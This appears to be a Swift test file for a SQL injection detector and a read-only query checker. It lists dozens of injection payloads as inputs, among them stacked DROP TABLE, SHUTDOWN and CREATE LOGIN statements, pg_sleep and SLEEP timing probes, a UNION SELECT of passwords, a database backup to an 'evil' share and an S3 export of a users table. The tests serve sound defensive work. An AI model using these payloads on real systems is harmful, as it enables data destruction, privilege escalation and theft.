import Testing

@testable import Policy

@Suite("SQL injection detector: statements stacked without a semicolon")
struct SQLScannerTests {
    @Test(
        "a statement behind a closed literal or a number is stacked (SQL Server runs it without ';')",
        arguments: [
            "x' DELETE FROM users -- ", "x' DROP TABLE users --", "x' SHUTDOWN --", "x' SHUTDOWN WITH NOWAIT",
            "x' INSERT INTO admins VALUES(1)--",
            "x' UPDATE users SET admin=1 --", "x' UPDATE dbo.users SET admin=1 --", "x' TRUNCATE TABLE logs--",
            "x' EXEC sp_addlogin 'a','b'--",
            "x'/**/DROP/**/TABLE/**/users--", "x\" DROP TABLE users --", "1 DELETE FROM users", "1 DROP TABLE users--",
            "x' DECLARE @q nvarchar(99)--", "x' BACKUP DATABASE master TO DISK='\\\\evil\\x'--", "x' CREATE LOGIN evil WITH PASSWORD='p'--",
            // Found in review: MERGE, permissions, loops and triggers.
            "x' MERGE INTO t USING s ON 1=1 WHEN MATCHED THEN DELETE; --", "x' MERGE t USING s ON 1=1 WHEN MATCHED THEN DELETE --",
            "x' GRANT CONTROL TO public --", "x' DENY SELECT ON t TO public --", "x' REVOKE SELECT ON t FROM app --",
            "x' WHILE 1=1 SELECT 1 --", "1 WHILE 1=1 SELECT 1", "x' DISABLE TRIGGER ALL ON t --", "x' USE master --",
        ])
    func stacked(value: String) {
        let finding = SQLScanner.finding(in: value)
        #expect(finding?.contains("stacked statements") == true, "\(value): \(finding ?? "nothing")")
    }

    @Test(
        "words that are keywords in ordinary text do not make a statement",
        arguments: [
            "I said 'select all' then", "don't drop it", "it's time to update the list", "please delete from the list", "O'Brien",
            "rock 'n' roll", "we'll create a table tomorrow", "42 items", "x' shutdown soon", "1 update",
            "3 grant applications to review", "I will wait while you go", "enable trigger warnings please", "2 merge requests",
            "1 use case", "it's what we use", "3 revert commits", "1 commit", "5 receive letters",
        ])
    func benign(value: String) {
        #expect(SQLScanner.finding(in: value) == nil, "\(value): \(SQLScanner.finding(in: value) ?? "")")
    }

    @Test(
        "an identifier written with Unicode escapes (PostgreSQL's U&\"…\") is refused: its name cannot be checked",
        arguments: [#"x' AND U&"pg\005fsleep"(5) IS NULL --"#, #"1 AND u&"pg\005fsleep"(5)"#])
    func unicodeEscapedIdentifier(value: String) {
        #expect(SQLScanner.finding(in: value)?.contains("Unicode escapes") == true, "\(value)")
    }

    @Test(
        "each database's reading alone: what hides in one reading is found in it, and what only another database reads is not",
        arguments: [
            // PostgreSQL: a `"…"` is an identifier, and a value spliced into one ends in an open one (`"a"="a"`).
            (#"x" OR "a"="a"#, [SQLDialect.postgresql], true), (#"x" OR "a"="a"#, [.sqlServer], true),
            ("1; SELECT pg_sleep(5)", [.postgresql], true), ("x' OR 'a'='a", [.sqlite], true),
            // MySQL alone reads `#` as a comment and `\'` as an escaped quote.
            ("x' # comment", [.mysql], true), ("x' # comment", [.postgresql], false),
            ("it's #1", [.mysql], false), ("O'Brien", [.postgresql, .mysql], false),
        ])
    func perDatabase(value: String, databases: [SQLDialect], found: Bool) {
        let finding = SQLScanner.finding(in: value, databases: databases)
        #expect((finding != nil) == found, "\(value) as \(databases): \(finding ?? "nothing")")
    }

    @Test("MySQL is read with and without backslash escapes (NO_BACKSLASH_ESCAPES is the server's setting)")
    func mysqlWithoutBackslashEscapes() {
        // With escapes, one literal; without, a literal `'a\\'` and then a call of SLEEP.
        #expect(SQLScanner.readOnlyProblem(#"SELECT 'a\' , SLEEP(5) -- '"#, databases: [.mysql]) == "it calls SLEEP")
        #expect(SQLScanner.finding(in: #"x\' UNION SELECT password FROM users -- "#, databases: [.mysql]) != nil)
    }

    @Test("the percent-decoded text is kept as a form between the value as sent and its NFKC form")
    func decodedForm() {
        #expect(ArgumentCanonicalizer.forms(of: "x %3E%CC%B8") == ["x %3E%CC%B8", "x >\u{338}", "x \u{226F}"])
        #expect(ArgumentCanonicalizer.forms(of: "a%2Fb") == ["a%2Fb", "a/b"])
    }
}

@Suite("read_only_sql: functions that write")
struct ReadOnlyFunctionTests {
    @Test(
        "extension and user functions called by a qualified name, families of side-effect functions, and NEXT VALUE FOR are refused",
        arguments: [
            "SELECT cron.schedule('* * * * *', 'DELETE FROM users')",
            "SELECT cron.schedule_in_database('j','* * * * *','DELETE FROM t','db')",
            "SELECT aws_s3.table_import_from_s3('users','','(format csv)','b','k','us-east-1')",
            "SELECT * FROM aws_s3.query_export_to_s3('SELECT * FROM users', aws_commons.create_s3_uri('b','k','r'))",
            "SELECT aws_lambda.invoke('fn', '{}'::json)", "SELECT azure_storage.blob_put('acct','c','p','x')",
            #"SELECT "cron"."schedule"('* * * * *', 'DELETE FROM users')"#, "SELECT dbo.reset_all()",
            "SELECT pg_background_launch('DELETE FROM users')", "SELECT pg_file_unlink('/tmp/x')", "SELECT pg_file_rename('a','b')",
            "SELECT pg_file_sync('/tmp/x')", "SELECT pg_stat_reset_shared('bgwriter')", "SELECT pg_stat_statements_reset()",
            "SELECT pg_replication_origin_create('x')", "SELECT brin_summarize_new_values('i')", "SELECT gin_clean_pending_list('i')",
            "SELECT pg_prewarm('users')", "SELECT NEXT VALUE FOR dbo.seq", "SELECT next value for seq",
            "SELECT schedule('* * * * *', 'DELETE FROM users')",
            // Found by the review of the first version: names that are not ASCII, and a quoted catalog name.
            #"SELECT "crön".reset_all()"#, #"SELECT cron."schédule"(1)"#, #"SELECT "PG_CATALOG".reset_all()"#,
            // …and SQL Server's `db..f` (found by the third review).
            "SELECT mydb..evil(1)", "SELECT * FROM mydb..tvf(1)",
        ])
    func refused(query: String) {
        #expect(SQLScanner.readOnlyProblem(query) != nil, "\(query)")
        #expect(SQLScanner.readOnlyProblem(query, databases: [.postgresql]) != nil || query.contains("NEXT VALUE"), "\(query)")
    }

    @Test(
        "catalog functions, qualified tables and columns, and ordinary functions are still read-only",
        arguments: [
            "SELECT pg_catalog.lower(name) FROM public.users", "SELECT count(*) FROM s.t WHERE t.a = 1",
            "SELECT information_schema._pg_truetypid(a, t) FROM x", "SELECT u.name, lower(u.email) FROM app.users u",
            "SELECT coalesce(max(o.total), 0) FROM sales.orders o", "SELECT nextvalue FROM t", "SELECT value FROM next_values",
            // Found by the review of the first version: tables named like pg_cron's and aws_lambda's functions, and a
            // read-only function a prefix took in.
            "SELECT schedule.id, schedule.start_at FROM schedule", "SELECT invoke.id FROM invoke", "SELECT pg_backup_start_time()",
        ])
    func accepted(query: String) {
        #expect(SQLScanner.readOnlyProblem(query) == nil, "\(query): \(SQLScanner.readOnlyProblem(query) ?? "")")
    }

    @Test("SQL Server's table hints after a qualified table are a table there, and a call in every other reading")
    func tableHints() {
        for query in [
            "SELECT * FROM dbo.users (NOLOCK)", "SELECT * FROM dbo.users (NOLOCK, INDEX(ix_users, 2))",
            "SELECT u.id FROM dbo.users (INDEX = ix_users) u JOIN dbo.orders (READPAST) o ON o.u = u.id",
        ] {
            #expect(SQLScanner.readOnlyProblem(query, databases: [.sqlServer]) == nil, "\(query)")
            #expect(SQLScanner.readOnlyProblem(query) != nil, "\(query)")
        }
        // Found by the third review: hint words are not reserved, so a derived table can make them columns; only a
        // table right after FROM or JOIN is read so.
        for query in [
            "SELECT cron.schedule(nolock, 'DELETE FROM t')", "SELECT dbo.f(nolock, 1 + 1)", "SELECT * FROM dbo.users (UPDLOCK)",
            "SELECT dbo.transfer(nolock, readpast) FROM (SELECT 'acct' AS nolock, 1000 AS readpast) s",
            "SELECT * FROM (SELECT 1 AS nolock) s CROSS APPLY dbo.tvf(nolock)",
        ] {
            #expect(SQLScanner.readOnlyProblem(query, databases: [.sqlServer]) != nil, "\(query)")
        }
    }
}
